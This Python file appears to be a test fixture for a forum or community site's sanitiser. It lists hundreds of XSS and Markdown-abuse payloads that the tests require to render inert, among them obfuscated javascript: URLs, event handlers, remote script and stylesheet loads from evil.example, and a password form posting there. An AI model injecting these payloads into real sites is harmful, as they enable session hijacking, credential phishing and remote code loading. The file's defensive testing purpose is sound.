"""XSS and markup-abuse payloads: every one must render inert wherever a member can type.

Grouped by kind; each line is something a person could paste into a post, a reply, a
community name, a search box or a report.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">alert(1)</script>',
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror='alert(1)'>",
    "<img src=x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    "<a onmouseover=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<em onmouseover=alert(1)>soft</em>",
    "<strong onclick=alert(1)>bold</strong>",
    "<blockquote onclick=alert(1)>q</blockquote>",
    "<li onclick=alert(1)>item</li>",
    "<a href=https://ok.example onclick=alert(1)>ok</a>",
    '<img src="x"\nonerror="alert(1)">',
    "<img src=x onerror\t=alert(1)>",
    "<img src=x one rror=alert(1) onerror=alert(1)>",
    "<x onpointerenter=alert(1)>x</x>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](javascript&#58;alert`1`)",
    "[x](&#106;avascript:alert`1`)",
    "[x](java%0ascript:alert`1`)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox`1`)",
    "[x](//evil.example/path)",
    '[x]("onmouseover="alert`1`)',
    '[x](https://ok.example"onmouseover="alert`1`)',
    "[x](https://ok.example'onmouseover='alert`1`)",
    "[x](https://ok.example/<script>alert`1`</script>)",
    "[x](https://ok.example/&quot;onclick=&quot;alert`1`)",
    "[x]( javascript:alert`1`)",
    "[x](mailto:javascript:alert`1`)",
    '<a href="mailto:x@y.example?body=<script>alert(1)</script>">m</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
]

SVG_MATH = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">'
    "</iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><style>@import 'https://evil.example';</style></svg>",
]

STYLE = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#xss)">x</span>',
]

EMBEDS_FORMS_META = [
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form method=post action=https://evil.example><input name=p type=password></form>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "<object data=https://evil.example/x.swf></object>",
    "<applet code=X.class></applet>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
]

BROKEN_AND_COMMENTS = [
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo '<script>alert(1)</script>' ?>",
    "<%= '<script>alert(1)</script>' %>",
    '<a href="x" <script>alert(1)</script>',
    "</p></div></main><script>alert(1)</script>",
    "<div><p><em>unclosed **nested _tags",
    "<<<<>>>><script>>alert(1)<</script>>",
    "<img src=`x` onerror=alert(1)>",
]

MARKDOWN_ABUSE = [
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x](x"onerror="alert(1))',
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "[[x](https://ok.example)](javascript:alert(1))",
    "[x](https://ok.example)(javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '[x](https://ok.example "title" onclick=alert(1))',
    "**<script>alert(1)</script>**",
    "*<img src=x onerror=alert(1)>*",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>",
    "[x]: javascript:alert(1)\n[click][x]",
    '<https://ok.example/"onclick="alert(1)>',
    "```\n<script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    "_[x](javascript:alert(1))_",
    "**[x](javascript:alert(1))**",
]

UNICODE_TRICKS = [
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](https://ok.example\u202e/moc.live)",
    "\u2028<script>alert(1)</script>\u2029",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]

SUPER_LONG = [
    "<script>" * 600,
    "[x](javascript:alert(1))" * 300,
    "*" * 9000,
    "_" * 9000,
    "[" * 4000 + "x" + "](" * 2000,
    "> " * 2000 + "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>" * 200,
    "`" * 5001,
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + SVG_MATH
    + STYLE
    + EMBEDS_FORMS_META
    + BROKEN_AND_COMMENTS
    + MARKDOWN_ABUSE
    + UNICODE_TRICKS
    + SUPER_LONG
)
